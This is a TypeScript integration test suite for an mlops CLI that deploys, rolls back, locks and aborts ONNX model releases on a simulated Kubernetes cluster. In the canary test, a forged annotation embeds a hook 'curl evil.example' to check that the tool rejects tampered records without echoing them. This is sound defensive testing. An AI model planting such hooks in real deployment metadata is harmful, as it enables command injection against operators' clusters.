import {runCommand} from '@oclif/test'
import {AppsV1Api, AutoscalingV2Api, CoreV1Api, KubeConfig, KubernetesObjectApi, PatchStrategy, PolicyV1Api} from '@kubernetes/client-node'
import {expect} from 'chai'
import {spawnSync} from 'node:child_process'
import {readFileSync, writeFileSync} from 'node:fs'
import {hostname} from 'node:os'
import {join} from 'node:path'

import {describeError} from '../../src/cli/base-command.js'
import {ExitCode} from '../../src/errors.js'
import {encodeLenField, encodeVarintField} from '../../src/onnx/wire.js'
import {inspectModelFile} from '../../src/store/model-file.js'
import {kubeClients} from '../../src/targets/k8s/client.js'
import {LeaseLostError, microTime as leaseTime, takeClusterLock} from '../../src/targets/k8s/lease.js'
import {type Cluster, kubeCluster} from '../env/k8s.js'
import {waitFor} from '../env/ports.js'
import {runCli, startCli} from '../helpers/cli.js'
import {type StoreFixture, fixture, makeStore, tempDir, writeK8sProject} from '../helpers/stores.js'
import {restoreEnv} from '../helpers/env.js'
import {apiStatus} from '../helpers/kube.js'

const root = join(import.meta.dirname, '..', '..')

describe('mlops deploy on a real Kubernetes control plane', function () {
  this.timeout(20 * 60 * 1000)
  let cluster: Cluster
  let store: StoreFixture
  let project: string
  let apps: AppsV1Api
  let core: CoreV1Api
  let autoscaling: AutoscalingV2Api
  let policy: PolicyV1Api
  const saved = process.env.KUBECONFIG

  before(async () => {
    cluster = kubeCluster()
    process.env.KUBECONFIG = cluster.kubeconfig
    const config = new KubeConfig()
    config.loadFromFile(cluster.kubeconfig)
    apps = config.makeApiClient(AppsV1Api)
    core = config.makeApiClient(CoreV1Api)
    autoscaling = config.makeApiClient(AutoscalingV2Api)
    policy = config.makeApiClient(PolicyV1Api)
    store = await makeStore('gcs')
    const dir = tempDir()
    await store.store.push({
      model: await inspectModelFile(fixture('iris_svc.onnx'), fixture('iris_labels.json')),
      name: 'iris',
      metadata: {},
      workDir: dir,
    })
    await store.store.push({
      model: await inspectModelFile(fixture('iris_logreg.onnx'), fixture('iris_labels.json')),
      name: 'iris',
      metadata: {},
      workDir: dir,
    })
    // A model stamped with an opset no runtime has yet.
    const valueInfo = (name: string) =>
      Buffer.concat([encodeLenField(1, name), encodeLenField(2, encodeLenField(1, encodeVarintField(1, 1)))])
    const graph = Buffer.concat([
      encodeLenField(1, Buffer.concat([encodeLenField(1, 'x'), encodeLenField(2, 'y'), encodeLenField(4, 'Identity')])),
      encodeLenField(11, valueInfo('x')),
      encodeLenField(12, valueInfo('y')),
    ])
    writeFileSync(
      join(dir, 'future.onnx'),
      Buffer.concat([
        encodeVarintField(1, 8),
        encodeLenField(8, Buffer.concat([encodeLenField(1, ''), encodeVarintField(2, 99)])),
        encodeLenField(7, graph),
      ]),
    )
    await store.store.push({model: await inspectModelFile(join(dir, 'future.onnx')), name: 'future', metadata: {}, workDir: dir})
    project = tempDir()
    writeK8sProject(project, store, 'iris')
  })

  after(() => {
    restoreEnv('KUBECONFIG', saved)
  })

  /** The first deploy's arguments (an HPA too), repeated by the tests that expect nothing to change. */
  const FIRST_DEPLOY = ['--model', 'iris@1', '--set', 'autoscaling.minReplicas=2', '--set', 'autoscaling.maxReplicas=4']

  async function deploy(...args: string[]) {
    const result = await runCommand(['deploy', '--config', join(project, 'mlops.yaml'), ...args], {root})
    return {...result, exitCode: (result.error as {oclif?: {exit?: number}} | undefined)?.oclif?.exit ?? 0}
  }

  /** Each object deploy makes, read from the API server: 200 or 404. */
  const objects = async (namespace: string) => ({
    deployment: await apiStatus(async () => apps.readNamespacedDeployment({name: 'iris', namespace})),
    service: await apiStatus(async () => core.readNamespacedService({name: 'iris', namespace})),
    pdb: await apiStatus(async () => policy.readNamespacedPodDisruptionBudget({name: 'iris', namespace})),
    hpa: await apiStatus(async () => autoscaling.readNamespacedHorizontalPodAutoscaler({name: 'iris', namespace})),
  })

  // kwok marks the pods of the one fake node Running and Ready without running any container: the
  // controllers, the scheduler and the API server are real, the pods' insides are not.
  it('creates Namespace, Deployment, Service and PDB (and an autoscaling/v2 HPA when enabled); the Deployment controller reports the rollout complete', async () => {
    const {exitCode, stderr, stdout} = await deploy(...FIRST_DEPLOY)
    expect(exitCode, stderr).to.equal(0)
    expect(stdout).to.contain('deployment iris/iris rolled out: iris@1')
    for (const object of ['namespace/iris', 'deployment/iris', 'horizontalpodautoscaler/iris', 'poddisruptionbudget/iris', 'service/iris'])
      expect(stdout).to.contain(`${object} created`)
    const deployment = await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})
    expect(deployment.metadata?.annotations).to.include({
      'mlops.io/model-version': '1',
      'mlops.io/model-sha256': 'd1f497a1f053d7cc43830cc84d0ecdc65e2dd370a4d3dedd4a49b13523e3a067',
    })
    expect(deployment.status?.availableReplicas).to.be.at.least(1)
    const pod = deployment.spec!.template.spec!
    expect(pod.initContainers![0].name).to.equal('model-loader')
    expect(pod.volumes![0].emptyDir).to.not.equal(undefined)
    const fields = (deployment.metadata?.managedFields ?? []).map(f => f.manager)
    expect(fields).to.include('mlops')
    // What the output says was created, read back from the API server.
    expect(await apiStatus(async () => core.readNamespace({name: 'iris'}))).to.equal(200)
    const service = await core.readNamespacedService({name: 'iris', namespace: 'iris'})
    expect(service.spec?.selector).to.deep.equal(deployment.spec?.selector?.matchLabels)
    const pdb = await policy.readNamespacedPodDisruptionBudget({name: 'iris', namespace: 'iris'})
    expect(pdb.spec?.selector?.matchLabels).to.deep.equal(deployment.spec?.selector?.matchLabels)
    const hpa = await autoscaling.readNamespacedHorizontalPodAutoscaler({name: 'iris', namespace: 'iris'})
    expect(hpa.spec).to.deep.include({minReplicas: 2, maxReplicas: 4})
    expect(hpa.spec?.scaleTargetRef).to.deep.include({apiVersion: 'apps/v1', kind: 'Deployment', name: 'iris'})
    for (const object of [service, pdb, hpa])
      expect(
        (object.metadata?.managedFields ?? []).map(f => f.manager),
        object.kind,
      ).to.include('mlops')
  })

  it('re-running the same deploy changes nothing (same resourceVersion)', async () => {
    const before = (await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})).metadata?.resourceVersion
    const {exitCode, stdout} = await deploy(...FIRST_DEPLOY)
    expect(exitCode).to.equal(0)
    expect(stdout).to.contain('deployment/iris unchanged')
    expect((await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})).metadata?.resourceVersion).to.equal(before)
  })

  it('a deploy keeps its connections to the API server: a few TLS handshakes for its dozen calls, not one each', async () => {
    // Counted inside the CLI process: a preload wraps tls.connect and writes the count at exit.
    const dir = tempDir()
    const preload = join(dir, 'count-tls.cjs')
    writeFileSync(
      preload,
      "const tls = require('tls'); let n = 0; const connect = tls.connect; tls.connect = function (...a) { n++; return connect.apply(this, a) };\n" +
        `process.on('exit', () => require('fs').writeFileSync(${JSON.stringify(join(dir, 'count'))}, String(n)))\n`,
    )
    const run = await runCli(['deploy', '--config', join(project, 'mlops.yaml'), ...FIRST_DEPLOY], {
      NODE_OPTIONS: `--require ${preload}`,
      KUBECONFIG: cluster.kubeconfig,
    })
    expect(run.code, run.stderr).to.equal(0)
    // Namespace first, then four objects at once (a socket each, at most), then the rollout polls on those sockets.
    expect(Number(readFileSync(join(dir, 'count'), 'utf8'))).to.be.within(1, 5)
  })

  it('a new model version makes a new revision with the new model annotation', async () => {
    const {exitCode, stdout} = await deploy('--model', 'iris@2', '--json')
    expect(exitCode).to.equal(0)
    const result = JSON.parse(stdout)
    expect(result).to.include({model: 'iris@2', revision: '2'})
    const deployment = await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})
    expect(deployment.spec?.template.metadata?.annotations?.['mlops.io/model-version']).to.equal('2')
  })

  it('--diff shows what would change (the model annotation, the loader args) and applies nothing', async () => {
    const before = (await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})).metadata?.resourceVersion
    const {exitCode, stdout} = await deploy('--model', 'iris@1', '--diff')
    expect(exitCode).to.equal(0)
    expect(stdout).to.contain('--- live/deployment/iris/iris')
    expect(stdout).to.match(/^-\s+mlops\.io\/model-version: "2"$/m)
    expect(stdout).to.match(/^\+\s+mlops\.io\/model-version: "1"$/m)
    expect(stdout).to.match(/^\+\s+- iris@1$/m)
    expect((await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})).metadata?.resourceVersion).to.equal(before)
    expect((await deploy('--model', 'iris@2', '--diff')).stdout).to.contain('no changes')
  })

  it('a field owned by another manager → exit 4 naming it; --force-conflicts takes it over', async () => {
    const config = new KubeConfig()
    config.loadFromFile(cluster.kubeconfig)
    const objects = KubernetesObjectApi.makeApiClient(config)
    await objects.patch(
      {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: {name: 'iris', namespace: 'iris'},
        spec: {progressDeadlineSeconds: 999},
      } as never,
      undefined,
      undefined,
      'other-tool',
      true,
      PatchStrategy.ServerSideApply,
    )
    const conflict = await deploy('--model', 'iris@2')
    expect(conflict.exitCode).to.equal(ExitCode.CONFLICT)
    expect(conflict.stderr).to.match(/^Error: applying Deployment iris\/iris: .*conflict with "other-tool".*progressDeadlineSeconds/)
    expect(conflict.stderr).to.contain('--force-conflicts')
    const forced = await deploy('--model', 'iris@2', '--force-conflicts')
    expect(forced.exitCode, forced.stderr).to.equal(0)
    expect((await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})).spec?.progressDeadlineSeconds).to.not.equal(999)
  })

  it('--dry-run=server with a value the API server refuses fails with its message and creates nothing', async () => {
    // A CPU request above its limit passes our schema; only the API server's validation knows.
    // (In the namespace that exists: in a new one, the dry-run Deployment would meet "namespace not found" first.)
    const before = (await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})).metadata?.generation
    const {exitCode, stderr} = await deploy(
      '--model',
      'iris@1',
      '--dry-run',
      'server',
      '--set',
      'resources.limits.cpu=1',
      '--set',
      'resources.requests.cpu=2',
    )
    expect(exitCode, stderr).to.equal(ExitCode.USAGE)
    expect(stderr).to.match(/^Error: applying Deployment iris\/iris: .*must be less than or equal to cpu limit/)
    expect((await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})).metadata?.generation).to.equal(before)
    // A server dry run into a namespace that does not exist yet says why it cannot check the rest; nothing is created.
    const dry = await deploy('--model', 'iris@1', '--namespace', 'dry', '--dry-run', 'server')
    expect(dry.exitCode, dry.stderr).to.equal(ExitCode.NOT_FOUND)
    expect(dry.stderr).to.match(
      /^Error: applying Deployment dry\/iris: namespace dry does not exist yet, and a server dry run creates nothing\nHint: check the other objects with --dry-run client/,
    )
    expect(await apiStatus(async () => core.readNamespace({name: 'dry'}))).to.equal(404)
  })

  it('an incompatible model is refused with exit 8 and nothing is applied', async () => {
    const {exitCode, stderr} = await deploy('--model', 'future@1', '--namespace', 'future')
    expect(exitCode).to.equal(ExitCode.INCOMPATIBLE)
    expect(stderr).to.match(/^Error: future@1 needs opset 99 of ai\.onnx; onnxruntime [\d.]+ supports up to opset \d+; nothing was applied/)
    expect(await apiStatus(async () => core.readNamespace({name: 'future'}))).to.equal(404)
  })

  it('the restricted user gets exit 6 naming the verb and the resource (and, with no right on leases, is told the deploy is not locked, under --json too)', async () => {
    process.env.KUBECONFIG = cluster.restrictedKubeconfig
    try {
      const {exitCode, stderr, stdout} = await deploy('--model', 'iris@1', '--json')
      expect(exitCode).to.equal(ExitCode.PERMISSION)
      expect(JSON.parse(stdout).error.exitCode).to.equal(ExitCode.PERMISSION)
      expect(stderr).to.match(
        /^not locked: this user may not create leases in iris, so another mlops run could change iris at the same time$/m,
      )
      expect(stderr).to.match(
        /^Error: applying Namespace iris: .*forbidden: User "mlops-restricted" cannot (patch|get) resource "namespaces"/m,
      )
    } finally {
      process.env.KUBECONFIG = cluster.kubeconfig
    }
  })

  it('a rollout that cannot finish (a CPU request of 5000 no node has) → exit 9 with a diagnosis (unschedulable pods) once --timeout 4s has passed, not much later', async () => {
    const {exitCode, stderr} = await deploy(
      '--model',
      'iris@1',
      '--namespace',
      'stuck',
      '--set',
      'resources.requests.cpu=5000',
      '--timeout',
      '4s',
    )
    expect(exitCode).to.equal(ExitCode.ROLLOUT_FAILED)
    // The --timeout contract as the CLI reports it: the deadline it gave up at was the 4 s given
    // (not the default's minutes), and the reason is the diagnosis, not a timer of this machine.
    expect(stderr).to.match(/^Error: rollout of stuck\/iris did not finish in 4s .*cannot be scheduled: .*Insufficient cpu/)
  })

  it('status shows the live model, images, replicas and the revision history', async () => {
    const {stdout, error} = await runCommand(['status', '--config', join(project, 'mlops.yaml'), '--json'], {root})
    expect(error).to.equal(undefined)
    const status = JSON.parse(stdout)
    expect(status.model).to.include({name: 'iris', version: '2'})
    expect(status.images).to.deep.equal({'model-loader': 'registry.example.com/team/loader:v1', api: 'registry.example.com/team/api:v1'})
    expect(status.replicas.available).to.be.at.least(1)
    expect(status.lock, 'no release operation under way').to.equal(null)
    expect(
      status.revisions.map((r: {revision: number; version: string; current: boolean}) => [r.revision, r.version, r.current]),
    ).to.deep.equal([
      [2, '2', true],
      [1, '1', false],
    ])
  })

  it('rollback restores the previous model annotation (a new revision); --to-revision goes to a given one', async () => {
    const {stdout, error, stderr} = await runCommand(['rollback', '--config', join(project, 'mlops.yaml')], {root})
    expect(error, stderr).to.equal(undefined)
    expect(stdout).to.contain('rolled back to revision 1: iris@1')
    const deployment = await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})
    expect(deployment.spec?.template.metadata?.annotations?.['mlops.io/model-version']).to.equal('1')
    expect(deployment.metadata?.annotations?.['deployment.kubernetes.io/revision']).to.equal('3')
    const missing = await runCommand(['rollback', '--config', join(project, 'mlops.yaml'), '--to-revision', '9'], {root})
    expect((missing.error as {oclif?: {exit?: number}}).oclif?.exit).to.equal(ExitCode.NOT_FOUND)
    expect(missing.stderr).to.contain('has no revision 9')
    // A revision that exists: revision 2 (iris@2) comes back as revision 4, then revision 3 (iris@1) as 5.
    for (const [revision, version, becomes] of [
      ['2', '2', '4'],
      ['3', '1', '5'],
    ]) {
      const to = await runCommand(['rollback', '--config', join(project, 'mlops.yaml'), '--to-revision', revision], {root})
      expect(to.error, to.stderr).to.equal(undefined)
      expect(to.stdout).to.contain(`rolled back to revision ${revision}: iris@${version}`)
      const live = await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})
      expect(live.spec?.template.metadata?.annotations?.['mlops.io/model-version']).to.equal(version)
      expect(live.metadata?.annotations?.['deployment.kubernetes.io/revision']).to.equal(becomes)
    }
  })

  it('--atomic: a failed rollout rolls back to the revision that was live, and says so (exit 9)', async () => {
    const {exitCode, stderr} = await deploy('--model', 'iris@2', '--set', 'resources.requests.cpu=5000', '--timeout', '4s', '--atomic')
    expect(exitCode).to.equal(ExitCode.ROLLOUT_FAILED)
    expect(stderr).to.match(/^Error: rollout of iris\/iris did not finish in 4s .*; rolled back to revision \d+ \(iris@1\)/)
    const deployment = await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})
    expect(deployment.spec?.template.metadata?.annotations?.['mlops.io/model-version']).to.equal('1')
    expect(deployment.spec?.template.spec?.containers[0].resources?.requests?.cpu).to.not.equal('5000')
  })

  // The release lease (src/targets/k8s/lease.ts) beside the Deployment.
  const LEASE = {apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: {name: 'iris-mlops-lock', namespace: 'iris'}}
  const leaseObjects = () => {
    const config = new KubeConfig()
    config.loadFromFile(cluster.kubeconfig)
    return KubernetesObjectApi.makeApiClient(config)
  }
  const leaseStatus = async () => apiStatus(async () => leaseObjects().read(LEASE))

  // Plain tests, not a describe: mocha runs a nested describe after this level's tests (delete among them).
  const modelOf = async () =>
    (await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})).spec?.template.metadata?.annotations?.[
      'mlops.io/model-version'
    ]
  const stuckDeploy = (...extra: string[]) =>
    startCli(
      [
        'deploy',
        '--model',
        'iris@2',
        '--set',
        'resources.requests.cpu=5000',
        '--timeout',
        '5m',
        '--config',
        join(project, 'mlops.yaml'),
        ...extra,
      ],
      {KUBECONFIG: cluster.kubeconfig},
      project,
    )
  const interruptedDeploy = async (...extra: string[]) => {
    const {child, done} = stuckDeploy(...extra)
    // The observable event: the new template is applied (the rollout is under way).
    await waitFor(async () => (await modelOf()) === '2', 'iris@2 applied', 60_000)
    child.kill('SIGINT')
    const run = await done
    expect(await leaseStatus(), 'the lease is given back on Ctrl-C').to.equal(404)
    return run
  }

  it('two release operations at once: while a deploy rolls out (lease held), deploy, rollback, abort and delete --yes each exit 4 naming its pid; nothing changed; Ctrl-C releases', async () => {
    expect(await modelOf()).to.equal('1')
    const {child, done} = stuckDeploy()
    try {
      await waitFor(async () => (await modelOf()) === '2', 'iris@2 applied', 60_000)
      expect(await leaseStatus()).to.equal(200)
      const holder = new RegExp(
        `^Error: another mlops deploy \\(pid ${child.pid} on [\\w.-]+\\) is changing iris/iris \\(lease renewed \\d+s ago\\)$`,
        'm',
      )
      const config = join(project, 'mlops.yaml')
      for (const args of [['deploy', '--model', 'iris@1'], ['rollback'], ['abort'], ['delete', '--yes']]) {
        const second = await runCli([...args, '--config', config], {KUBECONFIG: cluster.kubeconfig})
        expect(second.code, `${args.join(' ')}: ${second.stderr}`).to.equal(ExitCode.CONFLICT)
        expect(second.stderr, args.join(' ')).to.match(holder)
        expect(second.stderr).to.not.match(/\n\s+at /)
      }
      expect(await modelOf()).to.equal('2')
      expect(await apiStatus(async () => apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'}))).to.equal(200)
      // status (which changes nothing, so takes no lease) says who holds it, in text and in --json.
      const status = await runCli(['status', '--config', config], {KUBECONFIG: cluster.kubeconfig})
      expect(status.code, status.stderr).to.equal(0)
      expect(status.stdout).to.match(
        new RegExp(`^  lock {9}mlops deploy \\(pid ${child.pid} on [\\w.-]+\\) is changing it \\(lease renewed \\d+s ago\\)$`, 'm'),
      )
      const json = await runCli(['status', '--config', config, '--json'], {KUBECONFIG: cluster.kubeconfig})
      expect(JSON.parse(json.stdout).lock.holder).to.match(new RegExp(`^mlops deploy \\(pid ${child.pid} on [\\w.-]+\\)$`))
    } finally {
      child.kill('SIGINT')
    }
    expect((await done).code).to.equal(ExitCode.INTERRUPTED)
    expect(await leaseStatus()).to.equal(404)
    const back = await runCommand(['rollback', '--config', join(project, 'mlops.yaml')], {root})
    expect(back.error, back.stderr).to.equal(undefined)
    expect(await modelOf()).to.equal('1')
  })

  it('a lease left by a deploy killed with -9 (its pid gone) is taken over at once; one from another host that lapsed (renewed 31 s ago) too; no lease is left after either', async () => {
    const dead = spawnSync(process.execPath, ['-e', '0']).pid
    const microTime = (ms: number) => new Date(Date.now() - ms).toISOString().replace(/Z$/, '000Z')
    for (const [holder, renewedAgo] of [
      [`mlops deploy pid ${dead} on ${hostname().replace(/[^A-Za-z0-9._-]/g, '-')}`, 1000],
      ['mlops deploy pid 4242 on ci-runner-7', 31_000],
    ] as const) {
      await leaseObjects().create({
        ...LEASE,
        metadata: {...LEASE.metadata, labels: {'app.kubernetes.io/managed-by': 'mlops', 'app.kubernetes.io/name': 'iris'}},
        spec: {holderIdentity: holder, leaseDurationSeconds: 30, renewTime: microTime(renewedAgo)},
      })
      const {exitCode, stderr} = await deploy('--model', 'iris@1')
      expect(exitCode, `${holder}: ${stderr}`).to.equal(0)
      expect(await leaseStatus()).to.equal(404)
    }
  })

  it("a run whose lease another run took over (as after 30 s suspended): its next change stops with exit 4 naming the new holder, and the new holder's lease is left alone", async () => {
    await core.createNamespace({body: {metadata: {name: 'iris'}}}).catch(() => {}) // made by the tests before, when they ran
    const notes: string[] = []
    const lock = await takeClusterLock(kubeClients(), {name: 'iris', namespace: 'iris'}, 'deploy', {note: note => notes.push(note)})
    try {
      await lock.ensureHeld() // still this run's: renewed, goes on
      const live = await leaseObjects().read<typeof LEASE & {spec: Record<string, unknown>}>(LEASE)
      const other = 'mlops deploy pid 4242 on ci-runner-7'
      await leaseObjects().replace({...live, spec: {...live.spec, holderIdentity: other, renewTime: leaseTime(new Date())}})
      const lost = await lock.ensureHeld().then(
        () => undefined,
        (error: unknown) => error as Error,
      )
      expect(lost, 'ensureHeld after the takeover').to.be.instanceOf(LeaseLostError)
      expect(describeError(lost!)).to.deep.include({code: 'CONFLICT', exitCode: ExitCode.CONFLICT})
      expect(lost!.message).to.equal(
        'lost lease iris/iris-mlops-lock to another mlops deploy (pid 4242 on ci-runner-7): this run was not renewing it for 30s (suspended?) and changes nothing more',
      )
      expect(notes, 'the loss is said once, by the error').to.deep.equal([])
      await lock.release()
      const after = await leaseObjects().read<typeof LEASE & {spec: {holderIdentity: string}}>(LEASE)
      expect(after.spec.holderIdentity, 'release() gives back only its own lease').to.equal(other)
      await leaseObjects().delete(LEASE)
    } finally {
      await lock.release()
      await leaseObjects()
        .delete(LEASE)
        .catch(() => {})
    }

    // Another run took it over and has finished (its lease deleted): the renewal does not make it again.
    const second = await takeClusterLock(kubeClients(), {name: 'iris', namespace: 'iris'}, 'deploy', {note: note => notes.push(note)})
    try {
      await leaseObjects().delete(LEASE)
      const gone = await second.ensureHeld().then(
        () => undefined,
        (error: unknown) => error as Error,
      )
      expect(gone, 'ensureHeld after the other run finished').to.be.instanceOf(LeaseLostError)
      expect(gone!.message).to.match(/^lost lease iris\/iris-mlops-lock to another run: /)
      expect(await leaseStatus(), 'the renewal made no lease again').to.equal(404)
    } finally {
      await second.release()
    }
  })

  it('Ctrl-C (SIGINT) during a rollout that cannot finish (a CPU request no node has), with --atomic → exit 130, rolled back to the revision that was live, and said so', async () => {
    expect(await modelOf()).to.equal('1')
    const run = await interruptedDeploy('--atomic')
    expect(run.code, run.stderr).to.equal(ExitCode.INTERRUPTED)
    expect(run.stderr, run.stderr).to.match(
      /^Error: mlops deploy interrupted \(SIGINT\): rolled back to revision \d+ \(iris@1\) \(--atomic\)$/m,
    )
    expect(await modelOf()).to.equal('1')
  })

  it('Ctrl-C (SIGINT) during a rollout that cannot finish, without --atomic → exit 130, saying iris@2 stays applied with its revision, and how to follow or undo it', async () => {
    expect(await modelOf()).to.equal('1')
    const run = await interruptedDeploy()
    expect(run.code, run.stderr).to.equal(ExitCode.INTERRUPTED)
    expect(run.stderr).to.match(
      /^Error: mlops deploy interrupted \(SIGINT\): iris@2 is applied \(revision \d+\) and its rollout goes on in the cluster; mlops status follows it, mlops rollback undoes it$/m,
    )
    expect(await modelOf()).to.equal('2')
    const back = await runCommand(['rollback', '--config', join(project, 'mlops.yaml')], {root})
    expect(back.error, back.stderr).to.equal(undefined)
    expect(await modelOf()).to.equal('1')
  })

  it(
    'Ctrl-C right after the apply, before the Deployment controller gave the new template a revision (controller manager ' +
      'paused), with --atomic → rolled back to iris@1, the revision that was live (was: an older one, iris@2)',
    async () => {
      expect(await modelOf()).to.equal('1')
      // The controller manager is this run's process (test/env/k8s/up.sh records it): paused, it gives
      // the applied template no revision, as a busy one does for a moment after every apply.
      const pids = readFileSync(join(cluster.stateDir, 'pids'), 'utf8')
      const pid = Number(/^kube-controller-manager\s+(\d+)/m.exec(pids)?.[1])
      expect(pid).to.be.greaterThan(0)
      process.kill(pid, 'SIGSTOP')
      try {
        const run = await interruptedDeploy('--atomic')
        expect(run.code, run.stderr).to.equal(ExitCode.INTERRUPTED)
        expect(run.stderr, run.stderr).to.match(
          /^Error: mlops deploy interrupted \(SIGINT\): rolled back to revision \d+ \(iris@1\) \(--atomic\)$/m,
        )
      } finally {
        process.kill(pid, 'SIGCONT')
      }

      expect(await modelOf()).to.equal('1')
    },
  )

  it('a canary and a shadow a killed deploy left: status lists both tracks (version, pods, last gate); abort removes them, and again changes nothing; abort --target local → exit 2', async () => {
    const config = join(project, 'mlops.yaml')
    const live = await apps.readNamespacedDeployment({name: 'iris', namespace: 'iris'})
    // What deploy --canary and --shadow leave when killed outright: their Deployments (and the canary's Service, the shadow's ConfigMap).
    const track = (name: string, labels: Record<string, string>, annotations: Record<string, string> = {}) => ({
      metadata: {name, namespace: 'iris', labels, annotations},
      spec: {
        replicas: 1,
        selector: {matchLabels: labels},
        template: {metadata: {labels, annotations: live.spec!.template.metadata!.annotations}, spec: live.spec!.template.spec!},
      },
    })
    await apps.createNamespacedDeployment({
      namespace: 'iris',
      body: track(
        'iris-canary',
        {'app.kubernetes.io/name': 'iris', 'mlops.io/track': 'canary'},
        {'mlops.io/last-gate': 'step 10%: passed'},
      ),
    })
    await core.createNamespacedService({
      namespace: 'iris',
      body: {metadata: {name: 'iris-canary', namespace: 'iris'}, spec: {selector: {'mlops.io/track': 'canary'}, ports: [{port: 80}]}},
    })
    await apps.createNamespacedDeployment({
      namespace: 'iris',
      body: track('iris-shadow', {'app.kubernetes.io/name': 'iris-shadow', 'mlops.io/track': 'shadow'}),
    })
    await core.createNamespacedConfigMap({
      namespace: 'iris',
      body: {metadata: {name: 'iris-shadow', namespace: 'iris'}, data: {'shadow.json': '{"urls": ["http://10.0.0.9:8000"]}'}},
    })
    const version = live.spec!.template.metadata!.annotations!['mlops.io/model-version']

    const status = await runCommand(['status', '--config', config, '--json'], {root})
    expect(status.error, status.stderr).to.equal(undefined)
    // kwok's node makes their pods ready or not: the desired count is what is asserted.
    const tracks = (JSON.parse(status.stdout).tracks as Array<{replicas: {desired: number}}>).map(t => ({
      ...t,
      replicas: t.replicas.desired,
    }))
    expect(tracks).to.deep.equal([
      {track: 'canary', deployment: 'iris-canary', model: `iris@${version}`, replicas: 1, lastGate: 'step 10%: passed', pausedAt: null},
      {track: 'shadow', deployment: 'iris-shadow', model: `iris@${version}`, replicas: 1, lastGate: null, pausedAt: null},
    ])
    const text = await runCommand(['status', '--config', config], {root})
    expect(text.stdout).to.match(/^ {2}canary +iris-canary: iris@\S+, [01]\/1 ready; last gate: step 10%: passed$/m)

    // Not paused (no record): promote refuses (exit 4); a record that is not one mlops wrote: exit 5, quoting none of it.
    const running = await runCommand(['promote', '--config', config], {root})
    expect((running.error as {oclif?: {exit?: number}}).oclif?.exit).to.equal(ExitCode.CONFLICT)
    expect(running.stderr).to.contain('the canary iris/iris-canary is not paused')
    const kubeconfig = new KubeConfig()
    kubeconfig.loadFromFile(cluster.kubeconfig)
    const objects = KubernetesObjectApi.makeApiClient(kubeconfig)
    await objects.patch(
      {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: {
          name: 'iris-canary',
          namespace: 'iris',
          annotations: {'mlops.io/canary-plan': '{"model": "iris@1", "hook": "curl evil.example"}'},
        },
      } as never,
      undefined,
      undefined,
      'other-tool',
      undefined,
      PatchStrategy.MergePatch,
    )
    const forged = await runCommand(['promote', '--config', config], {root})
    expect((forged.error as {oclif?: {exit?: number}}).oclif?.exit).to.equal(ExitCode.INTEGRITY)
    expect(forged.stderr).to.contain(
      "the paused canary's record on deployment iris/iris-canary is not one mlops wrote (the record: unknown field)",
    )
    expect(forged.stderr).to.not.contain('evil.example')

    const aborted = await runCommand(['abort', '--config', config, '--json'], {root})
    expect(aborted.error, aborted.stderr).to.equal(undefined)
    expect(JSON.parse(aborted.stdout).removed).to.deep.equal([
      'deployment/iris-shadow',
      'configmap/iris-shadow',
      'deployment/iris-canary',
      'service/iris-canary',
    ])
    expect(await apiStatus(async () => apps.readNamespacedDeployment({name: 'iris-canary', namespace: 'iris'}))).to.equal(404)
    expect(await apiStatus(async () => core.readNamespacedConfigMap({name: 'iris-shadow', namespace: 'iris'}))).to.equal(404)
    expect(JSON.parse((await runCommand(['status', '--config', config, '--json'], {root})).stdout).tracks).to.deep.equal([])

    const again = await runCommand(['abort', '--config', config], {root})
    expect(again.error, again.stderr).to.equal(undefined)
    expect(again.stdout).to.contain('no canary or shadow of iris/iris to abort; nothing was changed')
    const local = await runCommand(['abort', '--config', config, '--target', 'local'], {root})
    expect((local.error as {oclif?: {exit?: number}}).oclif?.exit).to.equal(ExitCode.USAGE)
    expect(local.stderr).to.contain('abort works on --target k8s')
  })

  it('delete asks (refuses without a terminal, nothing deleted), then with --yes removes Deployment, Service, PDB and HPA; the namespace stays', async () => {
    // The HPA is the one the first deploy made (--set autoscaling.*): later deploys without it leave it.
    const all = {deployment: 200, service: 200, pdb: 200, hpa: 200}
    expect(await objects('iris')).to.deep.equal(all)
    const refused = await runCommand(['delete', '--config', join(project, 'mlops.yaml')], {root})
    expect((refused.error as {oclif?: {exit?: number}}).oclif?.exit).to.equal(ExitCode.USAGE)
    expect(await objects('iris')).to.deep.equal(all)
    const {stdout, error} = await runCommand(['delete', '--config', join(project, 'mlops.yaml'), '--yes'], {root})
    expect(error).to.equal(undefined)
    expect(stdout).to.contain('deployment/iris')
    expect(await objects('iris')).to.deep.equal({deployment: 404, service: 404, pdb: 404, hpa: 404})
    expect(await apiStatus(async () => core.readNamespace({name: 'iris'}))).to.equal(200)
    const status = await runCommand(['status', '--config', join(project, 'mlops.yaml')], {root})
    expect((status.error as {oclif?: {exit?: number}}).oclif?.exit).to.equal(ExitCode.NOT_FOUND)
  })

  it('bad inputs: --timeout that is not a duration → exit 2; an unknown --context → exit 2', async () => {
    expect((await deploy('--model', 'iris@1', '--timeout', 'soon')).exitCode).to.equal(ExitCode.USAGE)
    const context = await deploy('--model', 'iris@1', '--context', 'nope')
    expect(context.exitCode).to.equal(ExitCode.USAGE)
    expect(context.stderr).to.contain('Error: kubeconfig has no context nope')
  })
})
